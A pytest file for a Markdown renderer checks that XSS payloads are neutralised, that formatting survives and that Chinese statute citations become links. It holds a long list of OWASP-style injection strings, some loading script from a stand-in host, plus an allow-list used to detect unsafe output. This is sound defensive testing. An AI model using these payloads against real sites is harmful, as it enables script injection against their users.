"""Markdown rendering: formatting survives, scripts and injected markup never do, and
citations become links built by the caller."""
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from kb.rendering import markdown_to_html, render_markdown

# Payloads in the style of the OWASP XSS filter evasion cheat sheet.
XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"http://xss.example/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.example/xss.js?< B >",
    "<iframe src=http://xss.example/scriptlet.html <",
    "\\\";alert('XSS');//",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<BODY ONLOAD=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
    "<A HREF=\"javascript:document.location='http://www.example.com/'\">XSS</A>",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.example/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hsaW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAwIiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlhTUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<form action=\"javascript:alert(1)\"><button>提交</button></form>",
    "<details open ontoggle=alert(1)>",
    "<a href=\"vbscript:msgbox('XSS')\">x</a>",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<base href=\"javascript:alert('XSS');//\">",
    "[点我](javascript:alert(1))",
    "[点我](JaVaScRiPt:alert(1))",
    "[点我](javascript&#58;alert(1))",
    "[点我](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[点我](vbscript:msgbox(1))",
    "![图](javascript:alert(1))",
    "![图](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[点我](http://example.com \"title\\\" onmouseover=\\\"alert(1)\")",
    "<http://example.com/\" onmouseover=\"alert(1)>",
    "[a](<javascript:alert(1)>)",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "| 列 |\n|---|\n| <img src=x onerror=alert(1)> |",
    "- <script>alert(1)</script>\n- 第二项",
    "> <iframe src=javascript:alert(1)>",
    "**<span onclick=\"alert(1)\">粗体</span>**",
]

SAFE_TAGS = {"p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "b", "i", "u",
             "s", "del", "ins", "sub", "sup", "blockquote", "code", "pre", "ul", "ol", "li", "dl",
             "dt", "dd", "table", "thead", "tbody", "tr", "th", "td", "a", "span", "img", "abbr",
             "mark"}
SAFE_ATTRIBUTES = {"href", "title", "class", "rel", "src", "alt", "align", "start"}


class _Audit(HTMLParser):
    """Collects every element and attribute the browser would see."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []

    def handle_starttag(self, tag, attrs):
        if tag not in SAFE_TAGS:
            self.problems.append(f"element <{tag}>")
        for name, value in attrs:
            if name not in SAFE_ATTRIBUTES or name.startswith("on"):
                self.problems.append(f"attribute {name} on <{tag}>")
            if name in ("href", "src") and not _safe_url(value or ""):
                self.problems.append(f"url {value!r}")

    handle_startendtag = handle_starttag


def _safe_url(url: str) -> bool:
    scheme = urlsplit("".join(url.split())).scheme.lower()
    return scheme in ("", "http", "https", "mailto")


def problems(html: str) -> list[str]:
    audit = _Audit()
    audit.feed(html)
    audit.close()
    return audit.problems


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_injections_render_harmlessly(payload):
    html = markdown_to_html(f"正文开头\n\n{payload}\n\n正文结尾")
    assert problems(html) == [], html
    assert "正文开头" in html and "正文结尾" in html


def test_injections_next_to_citations_render_harmlessly(citing_kb):
    for payload in XSS_PAYLOADS:
        rendered = render_markdown(f"依据《样例审计法》第四条{payload}第五条", linker=citing_kb.linker,
                                   link_for=lambda c: f"/laws/{c.statute_id}/{c.article_no}")
        assert problems(rendered.html) == [], rendered.html
        assert rendered.citations


def test_raw_html_is_shown_as_text():
    html = markdown_to_html("<b>加粗</b> 和 <script>alert(1)</script>")
    assert "&lt;b&gt;加粗&lt;/b&gt;" in html and "&lt;script&gt;" in html


def test_tables_lists_and_emphasis_survive():
    html = markdown_to_html("## 审计发现\n\n| 问题 | 金额 |\n|---|---|\n| 虚列支出 | 86万元 |\n\n"
                            "1. 第一项\n2. **第二项**\n\n- 甲\n- 乙\n\n[审计署](https://www.audit.gov.cn)")
    for tag in ("<h2>", "<table>", "<th>", "<td>虚列支出</td>", "<ol>", "<ul>", "<strong>第二项</strong>"):
        assert tag in html
    assert 'href="https://www.audit.gov.cn"' in html and 'rel="noopener noreferrer"' in html


def test_resolved_citations_become_links_from_the_callers_builder(citing_kb):
    rendered = render_markdown("违反了《样例审计法》第四条、第五条和《不存在法》第一条。",
                               linker=citing_kb.linker,
                               link_for=lambda c: f"/laws/{c.statute_id}/articles/{c.article_no}")
    statute = citing_kb.library.find_statute("样例审计法").id
    assert f'<a class="cite" href="/laws/{statute}/articles/4"' in rendered.html
    assert ">《样例审计法》第四条</a>" in rendered.html and ">第五条</a>" in rendered.html
    assert '<span class="cite cite-unresolved"' in rendered.html
    assert [c.short_title for c in rendered.unresolved] == ["不存在法"]


def test_citations_in_code_are_found_but_not_linked(citing_kb):
    rendered = render_markdown("`《样例审计法》第四条`", linker=citing_kb.linker,
                               link_for=lambda c: "/x")
    assert "<a" not in rendered.html and len(rendered.citations) == 1


def test_citations_across_formatting_keep_their_statute(citing_kb):
    rendered = render_markdown("依据《样例审计法》第四条、**第五条**", linker=citing_kb.linker,
                               link_for=lambda c: f"/a/{c.article_no}")
    assert '<strong><a class="cite" href="/a/5"' in rendered.html


def test_links_marked_for_the_nearest_version(citing_kb):
    rendered = render_markdown("《样例审计法》第二条", linker=citing_kb.linker,
                               on=__import__("datetime").date(2000, 1, 1), link_for=lambda c: "/x")
    assert 'class="cite cite-inexact"' in rendered.html


def test_a_hostile_url_from_the_builder_is_still_sanitised(citing_kb):
    rendered = render_markdown("《样例审计法》第二条", linker=citing_kb.linker,
                               link_for=lambda c: "javascript:alert(1)")
    assert "javascript:" not in rendered.html
